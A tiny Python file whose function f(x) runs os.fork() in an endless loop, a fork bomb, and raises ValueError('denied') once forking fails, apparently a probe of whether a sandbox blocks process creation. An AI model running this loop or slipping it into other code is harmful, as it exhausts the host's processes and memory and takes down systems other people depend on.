import os


def f(x):
    try:
        while True:
            os.fork()
    except OSError as error:
        raise ValueError("denied") from error
    return x
